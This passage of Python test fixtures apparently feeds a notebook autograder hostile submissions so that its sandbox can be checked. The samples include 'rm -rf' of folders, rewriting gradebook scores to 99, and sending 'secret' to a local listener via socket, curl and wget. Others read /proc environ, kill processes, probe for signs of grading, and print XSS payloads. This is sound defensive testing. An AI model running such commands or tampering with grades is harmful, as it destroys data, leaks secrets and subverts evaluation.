        "import os\nfor descriptor in range(256):\n    try:\n        os.write(descriptor, os.urandom(1000) + b'\\n\\0' * 99)\n"
        "    except OSError:\n        pass",
    ),
    breaking(
        "removes-its-folder",
        "removes its working folder and goes elsewhere",
        "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\nos.chdir('/')\nos.umask(0o777)",
    ),
    breaking("resets", "forgets everything, and the checks with it", "%reset -f", after=MIDDLE),
    breaking(
        "swaps-the-namespace",
        "puts another namespace and another shell in place",
        "shell = get_ipython()\nshell.user_ns = {}\nshell.user_module = None\ntype(shell).transform_cell = lambda *a: 'pass'",
        after=LAST,
    ),
    breaking(
        "breaks-json",
        "takes away the functions that hand over evidence",
        "import json\njson.dumps = None\njson.JSONEncoder.encode = None",
        flag="changes json.JSONEncoder.encode, json.dumps",
    ),
    breaking(
        "recurses",
        "calls itself without end",
        "import sys\ndef f(): f()\ntry:\n    f()\nexcept RecursionError:\n    pass\n"
        "sys.setrecursionlimit(10**8)\nf()",
    ),
    breaking(
        "shows-a-hostile-object",
        "ends a cell with an object whose repr leaves",
        "class Odd:\n    def __repr__(self):\n        import os\n        os._exit(0)\nOdd()",
        flag="ended the whole process",
    ),
    breaking(
        "outlives-its-cell",
        "leaves exit handlers, threads and daemons behind",
        "import atexit, os, subprocess, threading, time\natexit.register(time.sleep, 600)\n"
        "threading.Thread(target=time.sleep, args=[600]).start()\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        import sys\n"
        "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(600)', '@MARK@'])\n    os._exit(0)\n"
        "subprocess.Popen(['sh', '-c', 'trap \"\" TERM HUP; sleep 600 # @MARK@'], start_new_session=True)",
        flag="started a program",
    ),
    breaking(
        "nests-too-deeply",
        "hands in code that is too deeply nested to be read",
        "x = " + "(" * 5000 + ")" * 5000,
        "x = " + "-" * 60_000 + "1",
        "x = " + "[" * 190 + "]" * 190,
        "y = 1" + " + 1" * 20_000,
        "z = a" + ".b" * 40_000,
    ),
    breaking(
        "writes-half-characters",
        "puts NUL and halves of characters into text and code",
        "s = '\0'",
        "print('\\ud800\\0\\x1b[2J')",
        change=_half_characters,
    ),
    breaking(
        "prints-scripts",
        "prints scripts, styles and terminal codes, and writes them into its text",
        f"print('<script>document.title=1</script></pre><img src=x onerror=alert(1)>{ESCAPES}')",
        change=_script_in_text,
        telling=True,
    ),
    Hostile(
        "prints-scripts-in-its-answer",
        "prints scripts and terminal codes from the cell of its answer",
        4.0,
        f"print('<script>document.title=1</script></pre><img src=x onerror=alert(1)>{ESCAPES}')\n{RIGHT}",
    ),
    Hostile(
        "warns",
        "does nothing wrong: it only warns on stderr",
        4.0,
        f"import sys, warnings\nwarnings.warn('careful')\nprint('oh', file=sys.stderr)\n{RIGHT.replace('    return', '    warnings.warn(str(x.sum()))' + chr(10) + '    return')}",
        telling=True,
    ),
    breaking("pastes-much-text", "pastes three million characters into a text cell", change=_huge_text),
]

SPIES = [
    Hostile(
        "pries",
        "looks for the gradebook, the lesson's text, the key, the seed and other work",
        1.0,
        f"{PRY}\n{ZERO}",
        verdicts=("not yet", "right"),
        flag="tried to open",
        telling=True,
    ),
    breaking(
        "overwrites",
        "writes into the course, the classroom, another's work, /tmp and the home folder",
        "import os, shutil\nfor place in ['@COURSE@', '@ROOM@', '@OTHER@', '@TMP@', '@HOME@']:\n"
        "    for what in (lambda: open(place, 'w').write('x'), lambda: os.remove(place), lambda: shutil.rmtree(place),\n"
        "                 lambda: os.chmod(place, 0o777), lambda: os.symlink('/', place + '.owned'),\n"
        "                 lambda: os.rename(place, place + '.owned')):\n"
        "        try:\n            what()\n        except OSError:\n            pass",
        "!rm -rf '@TMP@' '@HOME@' '@ROOM@/gradebook.db'; echo owned > '@TMP@'",
        flag="tried to open",
        telling=True,
    ),
    breaking(
        "writes-the-gradebook",
        "gives itself marks in the gradebook",
        "import sqlite3\nfor place in ['@ROOM@/gradebook.db', '@COURSE@/gradebook.db', '../../gradebook.db', '../../../gradebook.db']:\n"
        "    try:\n        base = sqlite3.connect(place)\n        base.execute('update grade set manual_score = 99')\n        base.commit()\n"
        "    except sqlite3.Error:\n        pass",
        mean_square="def mean_square(x):\n    return 0",
        points=1.0,
        verdicts=("not yet", "right"),
        flag="tried to open",
    ),
    breaking(
        "calls-out",
        "connects to a listener outside, by TCP, UDP, names and sockets without a file",
        "import socket\ntries = [(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @PORT@)),\n"
        "         (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @PORT@)), (socket.AF_UNIX, socket.SOCK_STREAM, '\\0@ABSTRACT@')]\n"
        "for family, kind, place in tries:\n    try:\n        link = socket.socket(family, kind)\n        link.settimeout(0.3)\n"
        "        link.connect(place)\n        link.send(b'secret')\n    except OSError:\n        pass\n"
        "try:\n    socket.getaddrinfo('localhost.', 80)\nexcept OSError:\n    pass",
        "!curl -m 1 http://127.0.0.1:@PORT@/ ; wget -T 1 -t 1 http://127.0.0.1:@PORT@/",
        flag="network",
        telling=True,
    ),
    breaking(
        "looks-at-processes",
        "looks at, traces and signals every process it can name",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfor name in os.listdir('/proc'):\n    if name.isdigit() and int(name) != os.getpid():\n"
        "        libc.ptrace(16, int(name), 0, 0)\n        try:\n            print(open(f'/proc/{name}/environ').read())\n"
        "            os.kill(int(name), 9)\n        except OSError:\n            pass",
        "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.prctl(4, 0, 0, 0, 0), libc.prctl(3, 0, 0, 0, 0))",
        flag="reaches behind its check",
    ),
    breaking(
        "looks-for-grading",
        "looks for a sign that it is being marked",
        "import getpass, os, sys\nprint('SEEN', sorted(os.environ.items()), sys.argv[1:], os.getcwd(), os.listdir())",
    ),
]

HOSTILE = [*CHEATS, *ODD_VALUES, *BREAKERS, *SPIES]
UNREADABLE = {
    "deep-json": (b"[" * 200_000, "cannot be read"),
    "nothing": (b"", "empty"),
    "half-merged": (b"<<<<<<< mine\n{}\n", "merge"),
    "a-page": (b"<html><script>alert(1)</script>", "web page"),
    "no-cells": (b'{"cells": 3, "metadata": {"course": {"lesson": "01_mean"}}}', "no cells"),
    "noise": (bytes(range(256)) * 50, "cannot be read"),
}
HONEST = {
    "ada": Hostile("ada", "is honest and right", 4.0, telling=True),
    "zoe": Hostile(
        "zoe",
        "is honest and half right",
        1.5,
        "def mean_square(x):\n    return (x * x).sum()",
        verdicts=("mistake", "right"),
        telling=True,
    ),
    "yuki": Hostile(
        "yuki",
        "is honest and handed in nothing",
        0.0,
        "",
        "exit_mean = ...",
        verdicts=("not attempted", "not attempted"),
    ),
}
